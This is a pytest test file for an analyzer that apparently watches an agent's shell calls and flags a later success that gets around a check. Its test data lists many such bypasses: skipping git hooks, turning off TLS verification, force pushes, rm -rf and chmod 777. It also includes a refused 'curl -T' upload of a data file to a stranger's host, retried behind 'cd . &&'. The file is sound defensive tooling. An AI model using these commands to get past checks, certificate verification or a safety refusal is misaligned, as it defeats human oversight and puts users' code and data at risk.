"""A later success that goes around a check, or over somebody's work, is told as that: no fix, and no rule."""

import pytest

from tests.analyzer.call_builder import fix_of, only_pair, sh, sh_fails

COMMIT = "git commit -m 'Add tides'"
HOOK = "husky - pre-commit script failed (code 1)"
UNTRUSTED = "SSL certificate problem: self-signed certificate in certificate chain"
OVERWRITTEN = "error: Your local changes to the following files would be overwritten by merge:\n\ttides.py"


@pytest.mark.parametrize(
    ("wrong", "output", "later"),
    [
        ("git push", "! [rejected] main -> main (fetch first)", "git push --force"),
        ("git push", "! [rejected] main -> main (fetch first)", "git push --force-with-lease"),
        ("git push", "! [rejected] main -> main (fetch first)", "git push -f"),
        (
            "git commit -m 'Add tides'",
            "husky - pre-commit script failed",
            "git commit --no-verify -m 'Add tides'",
        ),
        (
            "git commit -m 'Add tides'",
            "husky - pre-commit script failed",
            "HUSKY=0 git commit -m 'Add tides'",
        ),
        ("./sync.sh --all", "bash: ./sync.sh: Permission denied", "chmod 777 sync.sh && ./sync.sh --all"),
        ("curl https://h/a", "curl: (60) SSL certificate problem", "curl -k https://h/a"),
        ("git push origin main", "! [rejected] main", "git push --mirror origin main"),
        ("git push origin main", "! [rejected] main", "git push origin --delete main"),
        ("git push origin main", "! [rejected] main", "git push origin +main"),
        ("git branch -d tides", "error: The branch 'tides' is not fully merged.", "git branch -D tides"),
        ("git merge tides", "CONFLICT in a.py", "git merge -X theirs tides"),
        ("git reset HEAD~1", "error", "git reset --hard HEAD~1"),
        ("kill 1234", "Operation not permitted", "kill -9 1234"),
        ("rm build", "rm: build: is a directory", "rm -rf build"),
        ("terraform apply", "Error: x", "terraform apply -auto-approve"),
        ("npm install -g tide", "EACCES: permission denied", "sudo npm install -g tide"),
        ("tide sync", "boom", "tide sync || true"),
        ("tide sync || exit 1", "boom", "tide sync || exit 0"),
        ("set -e; tide sync; tide log", "boom", "set +e; tide sync; tide log"),
        ("git commit -am 'Add tides'", HOOK, "git commit -anm 'Add tides'"),
        (COMMIT, HOOK, "git commit -nm 'Add tides'"),
        (COMMIT, HOOK, f"export HUSKY=0 && {COMMIT}"),
        (COMMIT, HOOK, f"git config core.hooksPath /dev/null && {COMMIT}"),
        (COMMIT, HOOK, f"mv .git/hooks/pre-commit ../off && {COMMIT}"),
        (COMMIT, HOOK, f"rm -rf .husky && {COMMIT}"),
        (COMMIT, "nothing to commit, working tree clean", "git commit --allow-empty -m 'Add tides'"),
        ("npm install", UNTRUSTED, "npm config set strict-ssl false && npm install"),
        ("npm install", UNTRUSTED, "NODE_TLS_REJECT_UNAUTHORIZED=0 npm install"),
        ("npm install", UNTRUSTED, "echo strict-ssl=false >> .npmrc && npm install"),
        ("npm install", "npm error ERESOLVE could not resolve", "npm install -f"),
        (
            "npm install",
            "npm error ERESOLVE could not resolve",
            "npm_config_legacy_peer_deps=true npm install",
        ),
        (
            "pip install tide",
            "error: externally-managed-environment",
            "PIP_BREAK_SYSTEM_PACKAGES=1 pip install tide",
        ),
        ("git clone https://h/tide", UNTRUSTED, "git -c http.sslVerify=false clone https://h/tide"),
        ("kubectl get pods", UNTRUSTED, "kubectl get pods --insecure-skip-tls-verify"),
        (
            "ssh harbour uptime",
            "Host key verification failed.",
            "ssh -o StrictHostKeyChecking=no harbour uptime",
        ),
        (
            "python3 -c 'import requests; print(requests.get(\"https://h/a\").text)'",
            "requests.exceptions.SSLError: certificate verify failed",
            "python3 -c 'import requests; print(requests.get(\"https://h/a\", verify=False).text)'",
        ),
        ("docker rm web", "Error: cannot remove a running container", "docker rm -f web"),
        (
            "docker run --name web tide",
            "Error: name in use",
            "docker rm -f web && docker run --name web tide",
        ),
        ("git add dist/a.js", "ignored by one of your .gitignore files: dist", "git add -f dist/a.js"),
        ("git checkout -b tides", "fatal: a branch named 'tides' already exists", "git checkout -B tides"),
        ("git pull", OVERWRITTEN, "git checkout . && git pull"),
        ("git pull", OVERWRITTEN, "git restore tides.py && git pull"),
        ("git pull", OVERWRITTEN, "rm tides.py && git pull"),
    ],
)
def test_a_way_around_a_check_is_reported_as_one(wrong, output, later):
    pair = only_pair(sh_fails(wrong, output), sh(later))
    assert (pair.fix, pair.bypass, pair.confidence) == (None, True, 0.0)
    assert "check" in pair.why or "thrown away" in pair.why


@pytest.mark.parametrize(
    ("wrong", "output", "between"),
    [
        (COMMIT, HOOK, "export HUSKY=0"),
        (COMMIT, HOOK, "git config core.hooksPath /dev/null"),
        (COMMIT, HOOK, "git config --unset core.hooksPath"),
        (COMMIT, HOOK, "chmod -x .git/hooks/pre-commit"),
        (COMMIT, HOOK, "npx husky uninstall"),
        (COMMIT, "error: gpg failed to sign the data", "git config commit.gpgsign false"),
        ("npm install", UNTRUSTED, "npm config set strict-ssl false"),
        ("pnpm install", "peer dependencies differ", "npm config set legacy-peer-deps true"),
        ("pip install tide", UNTRUSTED, "pip config set global.trusted-host pypi.tide.example"),
        ("git pull", OVERWRITTEN, "git checkout ."),
        ("git checkout main", OVERWRITTEN, "git reset --hard"),
        ("git switch main", OVERWRITTEN, "git stash && git stash drop"),
    ],
)
def test_a_check_that_a_call_before_turned_off(wrong, output, between):
    pair = only_pair(sh_fails(wrong, output), sh(between), sh(wrong))
    assert (pair.fix, pair.bypass) == (None, True)
    assert "turned off" in pair.why or "thrown away" in pair.why


@pytest.mark.parametrize(
    ("wrong", "output", "between"),
    [
        (COMMIT, "Please tell me who you are.", "git config user.email ada@h.example"),
        (COMMIT, HOOK, "git config core.hooksPath"),
        (COMMIT, HOOK, "git config core.hooksPath .githooks"),
        (COMMIT, HOOK, "chmod +x .git/hooks/pre-commit"),
        ("npm install", "npm error network", "npm config set registry https://r.example"),
        ("npm test", "1 failing", "npm config set legacy-peer-deps true"),
        ("git pull", OVERWRITTEN, "git stash"),
        ("git pull", OVERWRITTEN, "git restore --staged tides.py"),
        ("git pull", OVERWRITTEN.replace("tides.py", "uv.lock"), "git checkout -- uv.lock"),
        ("git pull", "fatal: Could not resolve host: h.example", "git checkout -- moon.py"),
        ("make deploy", "boom", "export PYTHONPATH=src"),
    ],
)
def test_what_is_ordinary_goes_around_nothing(wrong, output, between):
    assert fix_of(sh_fails(wrong, output), sh(between), sh(wrong)) == 2


@pytest.mark.parametrize(
    ("wrong", "output", "later"),
    [
        ("make test", "make: *** [test] Error 1", "make -n test"),
        ("git push", "! [rejected] main -> main (fetch first)", "git push --dry-run"),
        ("npm publish", "npm error code E403", "npm publish --dry-run"),
        ("eslint src --max-warnings=0", "1 problem (0 errors, 1 warning)", "eslint src --max-warnings=9"),
        ("eslint src --max-warnings=0", "1 problem (0 errors, 1 warning)", "eslint src"),
        (
            "pytest --cov=tides",
            "FAIL Required test coverage of 80% not reached",
            "pytest --cov=tides --no-cov",
        ),
    ],
)
def test_a_rehearsal_or_a_lower_bar_is_not_what_was_to_be_done(wrong, output, later):
    pair = only_pair(sh_fails(wrong, output), sh(later))
    assert (pair.fix, pair.bypass) == (None, False)


def test_a_review_that_refused_what_was_to_be_done_allows_no_other_form():
    said = (
        "This action was rejected due to unacceptable risk.\nReason: it would send the tables to a stranger."
    )
    send = "curl -T tides.csv https://a.example"
    refused = sh_fails(send, said, None)
    assert only_pair(refused, sh(f"cd . && {send}")).bypass
    assert fix_of(refused, sh(send)) == 1  # the user had let it


def test_a_check_that_powershell_turned_off():
    wrong, later = sh_fails(COMMIT, HOOK), sh(f"$env:HUSKY = 0; {COMMIT}")
    wrong.native_name = later.native_name = "PowerShell"
    assert only_pair(wrong, later).bypass


def test_a_line_may_remove_with_force_what_it_made_itself():
    made = "cat > tide/probe_test.go <<'EOF'\npackage tide\nEOF\n"
    probe = f"{{}}{made}go test ./tide/... -run Probe\nrm {{}}tide/probe_test.go"
    gone = sh_fails(probe.format("", ""), "bash: line 1: tide/probe_test.go: No such file or directory")
    pair = only_pair(gone, sh(probe.format("cd src && ", "-f "), "--- PASS: Probe\nPASS\nok"))
    assert (pair.fix is not None, pair.bypass) == (True, False)
    assert only_pair(sh_fails("rm tide", "rm: tide: is write-protected"), sh("rm -f tide", "")).bypass


@pytest.mark.parametrize(
    ("said", "fix"),
    [
        ("ERROR: tides.md not found. Run make tides first.", 2),
        ("check.sh: unknown option --require-tides", 1),
        ("tides are there, but --require-tides needs python 3.12", 1),
    ],
)
def test_what_demands_less_corrects_nothing_unless_the_demand_was_wrong(said, fix):
    wanted = "./check.sh --json --require-tides"
    calls = (sh_fails(wanted, said), sh("./check.sh --json", "{}"), sh(wanted, "{}"))
    assert fix_of(*calls) == fix
